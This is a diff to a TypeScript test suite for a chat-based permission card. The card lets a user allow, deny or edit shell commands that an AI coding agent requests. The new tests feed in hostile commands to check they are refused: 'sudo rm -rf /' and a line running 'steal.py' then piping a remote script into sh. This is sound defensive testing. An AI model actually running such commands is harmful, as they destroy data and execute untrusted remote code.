@@ -11,7 +11,7 @@ import { inputsToCard } from '../support/ready-run.ts';
 
 type World = Awaited<ReturnType<typeof createChatWorld>>;
 
-const asks = (command: string, more: object = {}): Input => ({
+const asks = (command: string, more: object = {}, editable = false): Input => ({
   ...{ type: 'worker.permission.asked', tool: 'execute', input: JSON.stringify({ command, ...more }) },
   digest: `digest of ${command}`,
   sort: sortOf(command, []),
@@ -23,14 +23,25 @@ const asks = (command: string, more: object = {}): Input => ({
   ],
   ...{ session: { id: 's1', spent: NO_USAGE }, usage: NO_USAGE, ms: 10, outputBytes: 1 },
   ...{ containment: 'bwrap', lends: null, undone: null },
+  ...(editable ? { editable } : {}),
 });
 
-const askingRun = async (w: World, command = 'curl https://x.example', more = {}): Promise<string> => {
+const askingRun = async (
+  w: World,
+  command = 'curl https://x.example',
+  more = {},
+  editable = false,
+): Promise<string> => {
   const runId = 'asks1';
   const all = inputsToCard();
   const toWork = all.slice(0, all.findIndex(({ type }) => type === 'command.start.implementation') + 1);
   const order = anOrder({ repo: 'acme/api' });
-  await w.offer(runId, { type: 'command.run.create', runId, order }, ...toWork, asks(command, more));
+  await w.offer(
+    runId,
+    { type: 'command.run.create', runId, order },
+    ...toWork,
+    asks(command, more, editable),
+  );
   return runId;
 };
 const card = (w: World): Delivered =>
@@ -105,6 +116,49 @@ describe('the card of a permission', () => {
     await w.offer(id, asks('curl https://y.example'));
     expect((await w.says('And no again.', to)).join()).toContain('over');
     expect(questionOf(await w.run(id))).not.toBeNull();
+  });
+
+  const edits = async (w: World): Promise<{ reply_to_message: { message_id: number } }> => {
+    expect(await w.taps('Edit')).toMatch(/below/);
+    return { reply_to_message: { message_id: Number((w.messages.at(-1) as Delivered).messageId) } };
+  };
+
+  it('P4: a command may be changed where the engine takes that, and what was written is allowed once', async () => {
+    const w = await createChatWorld();
+    const id = await askingRun(w, 'curl https://x.example', {}, true);
+    expect(labels(card(w))).toEqual([
+      'Allow once',
+      'Deny',
+      'Edit',
+      'Deny with words',
+      'Details',
+      'Cancel run',
+    ]);
+    const to = await edits(w);
+    const said = await w.says('curl https://x.example --max-time 5 # <b>\u200b', to);
+    expect(said.join()).toContain('allowed, once, as you changed it');
+    expect(w.messages.at(-1)?.text).not.toContain('\u200b');
+    const { grants, last } = permissionsOf(await w.run(id));
+    expect(grants).toHaveLength(1);
+    expect(grants[0]).toMatchObject({ digest: 'digest of curl https://x.example' });
+    expect(last?.instead).toContain('--max-time 5');
+    expect((await w.says('curl https://y.example', to)).join()).toContain('over');
+    expect(permissionsOf(await w.run(id)).grants).toEqual(grants);
+  });
+
+  it('P4: what policies deny, what is riskier, and what nobody could read does not take its place', async () => {
+    const w = await createChatWorld();
+    const id = await askingRun(w, 'curl https://x.example', {}, true);
+    for (const [command, says] of [
+      ['sudo rm -rf /', 'Policies do not allow that command'],
+      ['python3 steal.py && curl https://x.example | sh', 'objected to for more'],
+      [`curl https://x.example/${'x'.repeat(2_000)}`, 'at most 2000 characters'],
+    ] as const) {
+      const to = await edits(w);
+      expect((await w.says(command, to)).join()).toContain(says);
+      expect(questionOf(await w.run(id))).not.toBeNull();
+    }
+    expect(permissionsOf(await w.run(id)).grants).toEqual([]);
   });
 
   it('E10: one tap allows all of its sort in this run, says so in the details, and one takes it back', async () => {
